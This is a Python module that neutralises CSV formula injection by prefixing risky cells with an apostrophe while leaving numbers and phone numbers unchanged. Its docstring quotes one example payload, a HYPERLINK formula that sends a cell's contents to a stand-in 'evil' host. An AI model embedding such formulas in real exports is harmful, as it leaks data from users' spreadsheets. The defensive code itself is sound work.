"""CSV that a spreadsheet opens without running anything in it (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets read a cell starting with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return can hide one): a lead named
`=HYPERLINK("http://evil/?"&A1)` would send the sheet away when opened. As OWASP advises, such a
cell is written with a leading `'`, which makes it text. A cell that is only a number or a phone
number (`-5`, `+358 40 1234567`, `+1 (555) 123-4567`) is left as it is: digits and phone
punctuation can neither name a cell nor call a function.
"""

from __future__ import annotations

import csv
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER_OR_PHONE = re.compile(r"[+-]?[0-9][0-9 ().,/-]*")


def neutral(cell) -> str:
    """The cell as text a spreadsheet shows as written, never as a formula."""
    text = "" if cell is None else str(cell)
    if text.startswith(FORMULA_START) and not NUMBER_OR_PHONE.fullmatch(text):
        return "'" + text
    return text


def unneutral(cell: str) -> str:
    """A cell as it was before `neutral` (reading back a leadtui CSV export)."""
    if cell[:1] == "'" and cell[1:].startswith(FORMULA_START) and not NUMBER_OR_PHONE.fullmatch(cell[1:]):
        return cell[1:]
    return cell


class Writer:
    """csv.writer whose every cell goes through `neutral`."""

    def __init__(self, out, **options) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row) -> None:
        self._writer.writerow([neutral(cell) for cell in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> Writer:
    return Writer(out, **options)
